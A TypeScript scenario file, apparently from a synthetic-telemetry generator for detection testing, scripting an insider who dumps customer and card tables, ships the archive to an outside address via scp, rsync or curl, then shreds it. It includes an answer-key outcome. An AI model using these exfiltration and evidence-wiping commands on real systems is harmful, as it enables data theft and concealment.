import { connect } from "../events/network-event.ts";
import type { Host } from "../hosts.ts";
import type { Person } from "../people.ts";
import { staffSession } from "../routine/admin-sessions.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Script, Stage } from "../scene.ts";
import { sudo, type } from "../ssh-session.ts";
import { MINUTE_MS } from "../../seeded/time.ts";
import { momentOf, phase } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly person: Person;
  readonly ip: string;
  readonly archive: string;
  readonly command: string;
}

/** Someone with every right to be there copies the database to an address of their own. */
export function databaseDump({ world, random, start }: StoryOptions): Story {
  const id = "database-dump";
  const ip = strangerAddress(random);
  const archive = `/var/tmp/${random.pick(["q3", "tmp", "old", "mig"])}-${random.int(10, 99)}.tgz`;
  const cast: Cast = {
    host: random.pick(world.hostsOf("database")),
    person: random.pick(world.peopleOf("database")),
    ip,
    archive,
    command: random.pick([
      `scp ${archive} me@${ip}:`,
      `rsync -a ${archive} ${ip}::box`,
      `curl -T ${archive} ftp://${ip}/`,
    ]),
  };
  const sendAt = start + random.int(35, 55) * MINUTE_MS;
  return {
    outcome: {
      id,
      verdict: "attack",
      summary: `${cast.person.login} dumped the customers on ${cast.host.name} and sent ${archive} to ${ip}`,
      facts: [
        { kind: "user", text: cast.person.login },
        { kind: "host", text: cast.host.name },
        { kind: "object", text: archive },
        { kind: "tool", text: "/usr/bin/pg_dump" },
        { kind: "address", text: ip },
        { kind: "time", text: momentOf(sendAt) },
      ],
    },
    activities: [phase(id, { name: "session", start }, (stage) => steal(stage, cast, sendAt))],
  };
}

function* steal(
  stage: Stage,
  { host, person, archive, command, ip }: Cast,
  sendAt: number,
): Script {
  const scene = atHost(stage, host);
  const session = yield* staffSession(scene, person);
  for (const line of [
    "uptime",
    "df -h",
    "psql -l",
    "psql -c select_version",
    "top -b -n 1",
    "free -m",
    "ls /var/lib/postgresql",
    "du -sh /var/lib/postgresql",
    "tail -n 50 /var/log/postgresql/main.log",
    "psql -c show_config",
    "vmstat 1 5",
    "iostat",
    "ls -la /var/tmp",
    "history",
    "w",
  ]) {
    wait(stage, 5000, 60_000);
    yield* type(scene, session, line);
  }
  wait(stage, 5000, 60_000);
  yield* sudo(scene, session, "pg_dump -t customers -t cards -f /var/tmp/c.sql main");
  wait(stage, 60_000, 4 * MINUTE_MS);
  yield* type(scene, session, `tar czf ${archive} /var/tmp/c.sql`);
  stage.clock.now = Math.max(stage.clock.now, sendAt);
  const process = yield* type(scene, session, command);
  const spec = { as: session.as, process, argv: command.split(" "), parent: session.shell };
  for (let index = 0; index < 24; index += 1) {
    yield connect(scene, { ...spec, remote: { ip, port: command.startsWith("scp") ? 22 : 873 } });
    wait(stage, 3000, 20_000);
  }
  yield* type(scene, session, `shred -u ${archive} /var/tmp/c.sql`);
}
